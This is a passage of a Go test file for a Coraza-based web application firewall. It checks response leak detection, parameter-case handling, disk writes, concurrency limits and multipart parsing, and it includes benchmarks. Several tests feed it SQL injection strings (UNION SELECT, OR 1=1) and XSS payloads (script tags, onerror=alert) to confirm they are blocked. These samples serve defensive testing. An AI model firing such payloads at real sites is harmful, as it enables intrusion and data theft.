			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := New(Config{RuleFiles: []string{filepath.Join(dir, "absent.conf")}}); err == nil || !strings.Contains(err.Error(), "absent.conf") {
		t.Errorf("absent file: %v", err)
	}
}

func TestResponses(t *testing.T) {
	e, err := New(Config{Responses: true})
	if err != nil {
		t.Fatal(err)
	}
	inspectResponse := func(body string) Verdict {
		t.Helper()
		v, err := e.InspectResponse(Response{Status: 200, Proto: "HTTP/1.1", Header: http.Header{"Content-Type": {"text/html; charset=utf-8"}}, Body: []byte(body)})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	for _, leak := range []string{
		"<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1''</p>",
		"<title>Index of /backup</title><h1>Index of /backup</h1>",
	} {
		if v := inspectResponse(leak); !v.Denied || v.Status != 500 {
			t.Errorf("%q passed: %+v", leak, v)
		}
	}
	if v := inspectResponse("<h1>Welcome</h1><p>Our shop sells shoes.</p>"); v.Denied {
		t.Errorf("denied: %s", v.Summary())
	}
	if v, err := engine(t).InspectResponse(Response{Body: []byte("You have an error in your SQL syntax")}); err != nil || v.Denied {
		t.Errorf("responses are inspected although off: %+v %v", v, err)
	}
}

// Coraza keeps one of two form fields whose names differ in case, by chance
// one or the other: an attack in the other must be found all the same.
func TestFieldsThatDifferInCase(t *testing.T) {
	for _, reference := range []bool{false, true} {
		e, err := New(Config{Reference: reference})
		if err != nil {
			t.Fatal(err)
		}
		for _, fields := range []string{"text=%s&Text=x", "TEXT=x&text=%s", "tEXT=x&text=%s&Text=y", "a=1&b=2&B=%s"} {
			for range 8 {
				if v := inspect(t, e, withBody(browser("POST", "/comment"), form, fmt.Sprintf(fields, url.QueryEscape("1' UNION SELECT 1,2,version() -- ")))); !v.Denied {
					t.Fatalf("reference %v: %s passed", reference, fields)
				}
			}
			if v := inspect(t, e, withBody(browser("POST", "/comment"), form, fmt.Sprintf(fields, "shoes"))); v.Denied {
				t.Errorf("reference %v: %s: %s", reference, fields, v.Summary())
			}
		}
		e.Close()
	}
}

// Of several values with one name, Coraza takes one for another by chance.
func TestRepeatedNames(t *testing.T) {
	e := engine(t)
	evil := url.QueryEscape("1' UNION SELECT 1,2,version() -- ")
	for range 30 {
		if v := inspect(t, e, withBody(browser("POST", "/comment"), form, "x=1&text="+evil+"&text=a&text=b&text=c&y=2&z=3")); !v.Denied {
			t.Fatal("passed")
		}
		r := browser("GET", "/")
		r.Header["Referer"] = []string{"https://shop.example.com/", "https://example.com/<script>alert(1)</script>"}
		if v := inspect(t, e, r); !v.Denied {
			t.Fatal("passed in a header")
		}
	}
}

// Nothing of a request may reach the disk.
func TestNothingIsWrittenToDisk(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	ct, b := multipartBody(t, map[string]string{"secret": strings.Repeat("secret ", 1<<10)}, "a.txt", bytes.Repeat([]byte("secret"), 100000))
	stop := make(chan struct{})
	seen := make(chan int64, 1)
	go func() {
		var most int64
		for {
			select {
			case <-stop:
				seen <- most
				return
			default:
			}
			filepath.Walk(dir, func(_ string, fi os.FileInfo, err error) error {
				if err == nil && fi.Mode().IsRegular() {
					most = max(most, fi.Size())
				}
				return nil
			})
			time.Sleep(200 * time.Microsecond)
		}
	}()
	inspect(t, e, withBody(browser("POST", "/"), ct, b))
	long := withBody(browser("POST", "/"), "application/json", `{"a":"`+strings.Repeat("s", 140<<10)+`"}`)
	if long.Plan, err = e.Plan(Exclusion{Parameters: []string{"a"}}); err != nil { // for speed
		t.Fatal(err)
	}
	if v := inspect(t, e, long); v.Denied {
		t.Error(v.Summary())
	}
	close(stop)
	if n := <-seen; n > 0 {
		t.Errorf("a file of %d bytes was written", n)
	}
	if left, err := os.ReadDir(dir); err != nil || len(left) > 0 {
		t.Errorf("left behind: %v %v", left, err)
	}
}

func fill(t *testing.T, s slots) {
	for range cap(s) {
		s <- struct{}{}
	}
	t.Cleanup(func() {
		for range cap(s) {
			<-s
		}
	})
}

func TestWaitingEndsWithTheContext(t *testing.T) {
	e := engine(t)
	fill(t, e.slots)
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Millisecond)
	defer cancel()
	if _, err := e.Inspect(ctx, posted("x")(t)); err == nil {
		t.Error("no error although every slot was taken")
	}
	if _, err := e.Inspect(ctx, browser("GET", "/")); err != nil {
		t.Errorf("a request without a body had to wait: %v", err)
	}
}

// Attacks that wait for Coraza keep no honest request waiting.
func TestWaitingForCoraza(t *testing.T) {
	e := engine(t)
	fill(t, e.slow)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	var wg sync.WaitGroup
	for range 2 * cap(e.slots) {
		wg.Go(func() {
			if _, err := e.Inspect(ctx, posted("1' UNION SELECT 1,2,version() -- ")(t)); err == nil {
				t.Error("an attack was judged although Coraza had no time")
			}
		})
	}
	time.Sleep(20 * time.Millisecond)
	soon, end := context.WithTimeout(t.Context(), time.Minute)
	defer end()
	if v, err := e.Inspect(soon, posted("blue shoes")(t)); err != nil || v.Denied {
		t.Errorf("an honest form waits: %v %s", err, v.Summary())
	}
	cancel()
	wg.Wait()
	if v := inspect(t, e, posted("blue shoes")(t)); v.Denied {
		t.Error(v.Summary())
	}
}

func TestCleanKeepsLogsOnOneLine(t *testing.T) {
	if got := clean("a\r\nb\x1b[31m\u2028c\u0085"); strings.ContainsAny(got, "\r\n\x1b\u2028\u0085") {
		t.Errorf("%q", got)
	}
}

// What the multipart reducer hands on is what Go's parser reads from the
// original, whatever comes.
func FuzzReduceMultipart(f *testing.F) {
	f.Add("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.txt\"\r\nContent-Type: text/plain\r\n\r\nfile\r\n--XX--\r\n")
	f.Add("multipart/form-data; boundary=XX", "--XX\nContent-Disposition: form-data; name=\"a\"; filename*=utf-8''x\n\nhello\n--XX--")
	f.Add("multipart/form-data; boundary=\"a:b\"", "--a:b\r\n\r\n--a:b--")
	f.Add("multipart/form-data; boundary=XX", hidden("\n--XX\r\n"))
	e := &Engine{cfg: Config{MaxInspect: 1 << 16, MaxArguments: 50}}
	f.Fuzz(func(t *testing.T, contentType, text string) {
		if _, _, err := mime.ParseMediaType(contentType); err != nil || MediaType(contentType) != "multipart/form-data" {
			return // it does not come here, or Coraza refuses it
		}
		b, err := e.reduceMultipart(contentType, strings.NewReader(text))
		if err != nil {
			t.Fatalf("an error about a body in memory: %v", err)
		}
		if b.denied != "" {
			return
		}
		original, reduced := parts(t, contentType, text), parts(t, contentType, string(b.bytes))
		if !slices.Equal(original, reduced) {
			t.Fatalf("the rules would see %q instead of %q", reduced, original)
		}
	})
}

// parts lists what Go's parser makes of a multipart body, file contents left
// out.
func parts(t *testing.T, contentType, text string) []string {
	t.Helper()
	_, params, err := mime.ParseMediaType(contentType)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	mr := multipart.NewReader(strings.NewReader(text), params["boundary"])
	for {
		p, err := mr.NextRawPart()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatalf("%v in %q", err, text)
		}
		content, err := io.ReadAll(p)
		if err != nil {
			t.Fatalf("%v in %q", err, text)
		}
		if d, _ := formdata.ParseDisposition(p.Header.Get("Content-Disposition")); d.Filename != "" || d.Extended != "" {
			content = nil
		}
		out = append(out, fmt.Sprintf("%q %q", p.Header, content))
	}
}

// Only what is an image goes missing from inspection.
func TestDropImages(t *testing.T) {
	for in, want := range map[string]string{
		`{"a":"data:image/png;base64,iVBORw0KGgoAAA=="}`:               `{"a":"image"}`,
		`{"a":"data:image\/jpeg;base64,\/9j\/4AAQ"}`:                   `{"a":"image"}`,
		`a=data%3Aimage%2Fgif%3Bbase64%2CR0lGODlh%2BAA%3D%3D&b=1`:      `a=image&b=1`,
		`<img src="data:image/webp;base64,UklGRAAA" onerror=alert(1)>`: `<img src="image" onerror=alert(1)>`,
		`data:image/png;base64,iVBORw0KGgo' OR 1=1`:                    `image' OR 1=1`,
		`a=data:image/png;base64,iVBORw0KGgo+OR+1=1`:                   `a=image+OR+1=1`,
		`data:image/png;base64,PHNjcmlwdD4=`:                           `data:image/png;base64,PHNjcmlwdD4=`,
		`data:image/svg+xml;base64,iVBORw0KGgo=`:                       `data:image/svg+xml;base64,iVBORw0KGgo=`,
		`data:text/html;base64,iVBORw0KGgo=`:                           `data:text/html;base64,iVBORw0KGgo=`,
	} {
		processor := "JSON"
		if strings.HasPrefix(in, "a=") {
			processor = "URLENCODED"
		}
		if got := string(dropImages([]byte(in), processor)); got != want {
			t.Errorf("%q → %q, want %q", in, got, want)
		}
	}
	large := "data:image/png;base64,iVBORw0KGgo" + strings.Repeat("QUJD", 150<<10)
	if v := inspect(t, engine(t), jsonBody(`{"avatar":"`+large+`"}`)(t)); v.Denied {
		t.Errorf("an image larger than MaxInspect: %s", v.Summary())
	}
}

func FuzzMediaType(f *testing.F) {
	f.Add("Application/JSON ; charset=utf-8")
	f.Add("\xa0text/plain")
	f.Fuzz(func(t *testing.T, s string) {
		kind := MediaType(s)
		if strings.Contains(kind, ";") || kind != MediaType(kind) {
			t.Fatalf("%q → %q", s, kind)
		}
		if kind == "application/json" != (processorFor(kind) == "JSON" && !strings.HasSuffix(kind, "+json")) {
			t.Fatalf("%q", kind)
		}
	})
}

func BenchmarkNew(b *testing.B) {
	for range b.N {
		e, err := New(Config{})
		if err != nil {
			b.Fatal(err)
		}
		e.Close()
	}
}

// traffic are the requests of the benchmarks, all honest.
func traffic(t testing.TB) map[string]func() Request {
	var fields, items []string
	for i := range 24 {
		fields = append(fields, query(fmt.Sprintf("field%d", i), "Some ordinary text about blue shoes, size 42, and more of it"))
	}
	for i := range 63 {
		items = append(items, fmt.Sprintf(`{"id":%d,"name":"Blue shoe %d","price":59.90,"tags":["new","sale"],"stock":12,"active":true,"note":"ordinary text"}`, i, i))
	}
	ct, upload := multipartBody(t, map[string]string{"title": "Holiday"}, "a.jpg", random(1<<20))
	long := query("text", strings.Repeat("The quick brown fox jumps over the lazy dog, and then sleeps. ", 1600))
	return map[string]func() Request{
		"get":    func() Request { return browser("GET", "/search?q=blue+shoes&page=2&sort=price") },
		"form2k": func() Request { return withBody(browser("POST", "/f"), form, strings.Join(fields, "&")) },
		"json8k": func() Request {
			return withBody(browser("POST", "/j"), "application/json", "["+strings.Join(items, ",")+"]")
		},
		"text100k": func() Request { return withBody(browser("POST", "/t"), form, long) },
		"upload1m": func() Request { return withBody(browser("POST", "/u"), ct, upload) },
	}
}

// page is a response of 100 KB.
func page() Response {
	body := "<!doctype html><title>Shop</title><ul>" + strings.Repeat(`<li><a href="/product/7?size=42">Blue suede shoe</a> <b>59.90</b> in stock, ships today`+"\n", 1150) + "</ul>"
	return Response{Status: 200, Proto: "HTTP/1.1", Header: http.Header{"Content-Type": {"text/html; charset=utf-8"}}, Body: []byte(body)}
}

// measure runs f b.N times, prepare before each, and reports the processor
// time of f, which says more than the time that passed where other things run.
func measure(b *testing.B, prepare, f func()) {
	var spent int64
	used := func() int64 {
		var u syscall.Rusage
		if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
			b.Fatal(err)
		}
		return u.Utime.Nano() + u.Stime.Nano()
	}
	b.ReportAllocs()
	if prepare == nil {
		start := used()
		for range b.N {
			f()
		}
		spent = used() - start
	} else {
		for range b.N {
			b.StopTimer()
			prepare()
			b.StartTimer()
			start := used()
			f()
			spent += used() - start
		}
	}
	b.ReportMetric(float64(spent)/1e3/float64(b.N), "cpu-µs/op")
}

// BenchmarkInspect measures Coraza alone, and the compiled rules with values
// that were never seen and with values that were.
func BenchmarkInspect(b *testing.B) {
	requests := traffic(b)
	for _, mode := range []string{"coraza", "cold", "warm"} {
		e, err := New(Config{Responses: true, Reference: mode == "coraza"})
		if err != nil {
			b.Fatal(err)
		}
		var prepare func()
		if mode == "cold" {
			prepare = func() {
				e.compiled.Forget()
				e.compiledResponses.Forget()
			}
		}
		for name, r := range requests {
			b.Run(mode+"/"+name, func(b *testing.B) {
				measure(b, prepare, func() {
					if v := inspect(b, e, r()); v.Denied {
						b.Fatal(v.Summary())
					}
				})
			})
		}
		answer := page()
		b.Run(mode+"/html100k", func(b *testing.B) {
			measure(b, prepare, func() {
				if v, err := e.InspectResponse(answer); err != nil || v.Denied {
					b.Fatal(err, v.Summary())
				}
			})
		})
		e.Close()
	}
}
